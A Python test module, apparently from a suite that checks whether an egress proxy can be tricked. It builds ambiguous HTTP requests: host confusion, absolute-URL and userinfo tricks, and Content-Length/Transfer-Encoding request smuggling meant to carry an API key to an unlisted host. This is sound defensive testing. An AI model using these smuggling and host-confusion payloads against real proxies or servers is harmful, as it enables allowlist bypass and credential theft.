"""23 and 24: requests that two readers could understand in two ways."""

from common import OPEN, OTHER, SECRET, UNLISTED, attempt, get, said, said_over_tls

KEY = "X-Key: $API_KEY"
LONG = 40_000
MANY = 3_000


def absolute_and_double():
    evil, name = UNLISTED["name"], OPEN["name"]
    ended = lambda text: said_over_tls(SECRET["name"], text)  # noqa: E731
    own = SECRET["name"]
    attempt("absolute https in ended TLS", ended, get(own, f"https://{evil}/", KEY))
    attempt("absolute http in ended TLS", ended, get(own, f"http://{evil}/", KEY))
    attempt("two Hosts in ended TLS", ended, get(own, "/", f"Host: {evil}", KEY))
    attempt("two Hosts, ours last", ended, get(evil, "/", f"Host: {own}", KEY))
    attempt("another listed Host", ended, get(own, "/", f"Host: {OTHER['name']}", KEY))
    attempt("no Host", ended, "GET / HTTP/1.1\r\nConnection: close\r\n\r\n")
    attempt("HTTP/1.0 without Host", said, 80, "GET / HTTP/1.0\r\n\r\n")
    attempt("absolute on 80", said, 80, get(name, f"http://{evil}/"))
    attempt("two Hosts on 80", said, 80, get(name, "/", f"Host: {evil}"))
    attempt("Host with spaces", said, 80, get(f"{name} {evil}"))
    attempt("Host with a comma", said, 80, get(f"{name},{evil}"))
    attempt("Host with a tab", said, 80, get(f"{name}\t{evil}"))
    attempt("Host with a user", said, 80, get(f"{name}@{evil}"))
    attempt("Host with a NUL", said, 80, get(f"{name}\0.{evil}"))
    attempt("X-Forwarded-Host alone", said, 80, get(evil, "/", f"X-Forwarded-Host: {name}"))
    attempt("address and Host differ", said, 3128, get(name, f"http://{evil}/"))
    attempt("address with a user", said, 3128, get(name, f"http://{name}@{evil}/"))
    attempt("address with a backslash", said, 3128, get(name, f"http://{name}\\@{evil}/"))
    attempt("address with a fragment", said, 3128, get(evil, f"http://{evil}#@{name}/"))
    attempt("address encoded", said, 3128, get(name, f"http://{evil.replace('u', '%75', 1)}/"))
    attempt("ftp", said, 3128, get(name, f"ftp://{evil}/"))
    attempt("https to the proxy", said, 3128, get(name, f"https://{evil}/"))


def smuggled():
    own = SECRET["name"]
    second = f"GET /smuggled HTTP/1.1\r\nHost: {UNLISTED['name']}\r\nX-Key: $API_KEY\r\n\r\n"
    head = f"POST / HTTP/1.1\r\nHost: {own}\r\nX-Key: $API_KEY\r\nConnection: close\r\n"
    chunk = f"{len(second):x}\r\n{second}\r\n0\r\n\r\n"
    requests = {
        "length and chunks": f"{head}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{second}",
        "chunks and length": f"{head}Transfer-Encoding: chunked\r\nContent-Length: {len(chunk)}\r\n\r\n{chunk}",
        "two lengths": f"{head}Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello{second}",
        "signed length": f"{head}Content-Length: +5\r\n\r\nhello{second}",
        "listed length": f"{head}Content-Length: 5, 5\r\n\r\nhello{second}",
        "gzip, chunked": f"{head}Transfer-Encoding: gzip, chunked\r\n\r\n{chunk}",
        "chunked, identity": f"{head}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n{chunk}",
        "xchunked": f"{head}Transfer-Encoding: xchunked\r\n\r\n{chunk}",
        "space before the colon": f"{head}Transfer-Encoding : chunked\r\n\r\n{chunk}",
        "tab before chunked": f"{head}Transfer-Encoding:\x0bchunked\r\n\r\n{chunk}",
        "bare line feed": f"{head}X: a\nY: b\r\n\r\n{second}",
        "folded header": f"{head}X: a\r\n folded\r\n\r\n{second}",
        "NUL in a header": f"{head}X: a\0b\r\n\r\n{second}",
        "CR in a header": f"{head}X: a\rTransfer-Encoding: chunked\r\n\r\n{second}",
        "chunk extension with a line feed": f"{head}Transfer-Encoding: chunked\r\n\r\n5;\nx\r\nhello\r\n0\r\n\r\n{second}",
        "chunk size overflow": f"{head}Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n{second}",
        "upgrade with a body": get(own, "/", "Upgrade: websocket", f"Content-Length: {len(second)}").replace(
            "close", "Upgrade"
        )
        + second,
        "long header": get(own, "/", f"X: {'a' * LONG}") + second,
        "many headers": head + "a: b\r\n" * MANY + f"Transfer-Encoding: chunked\r\n\r\n{chunk}",
        "Connection names Content-Length": f"{head}Content-Length: {len(second)}\r\nConnection: content-length\r\n\r\n{second}",
        "body looks like a request": f"{head}Content-Length: {len(second)}\r\n\r\n{second}",
        "line break by placeholder": get(own, "/", "X: $API_KEY%0d%0aX-Evil: 1"),
    }
    for label, text in requests.items():
        attempt(label, said_over_tls, own, text)
    for label, text in requests.items():
        if "chunk" in label or "length" in label:
            attempt(f"{label}, on 80", said, 80, text.replace(own, OPEN["name"]).replace("$API_KEY", "x"))


ATTEMPTS = {23: absolute_and_double, 24: smuggled}
